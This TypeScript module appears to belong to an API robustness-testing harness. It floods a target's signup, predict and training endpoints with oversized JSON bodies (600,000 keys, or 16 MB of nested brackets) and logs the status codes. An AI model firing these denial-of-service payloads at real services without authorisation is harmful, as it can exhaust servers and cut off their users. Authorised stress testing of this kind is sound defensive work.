import { lanes, type Attack, type Target } from './target';
import { bearer, send } from './send';

const keys = 600_000;
const nestedBytes = 16 * 1024 * 1024;
const atOnce = 4;

/** Objects of very many keys and lists in lists, to all that reads a body. */
export const largeBodies: Attack = (target, answers, signal) => {
  const members = Array.from({ length: keys }, (_, i) => `"k${i}":1`);
  const bodies = [Buffer.from(`{${members.join(',')}}`), Buffer.alloc(nestedBytes, '[')];
  const urls = urlsOf(target);
  let next = 0;
  return lanes(atOnce, signal, async () => {
    const turn = next++;
    const body = bodies[turn % bodies.length]!;
    const url = urls[Math.floor(turn / bodies.length) % urls.length]!;
    const headers = bearer(target.tokens[0]);
    const kind = body === bodies[0] ? 'keys' : 'nested';
    const status = await send({ url, method: 'POST', headers, body, signal });
    answers.add(`${new URL(url).pathname.split('/').at(-1)} ${kind} ${status}`);
  });
};

function urlsOf({ url, model }: Target): string[] {
  const api = `${url}/api/v2`;
  return [
    `${api}/user/signup`,
    `${url}/${model}/predict`,
    `${api}/train/nlp-text`,
    `${api}/train/verify-doc-dir`,
  ];
}
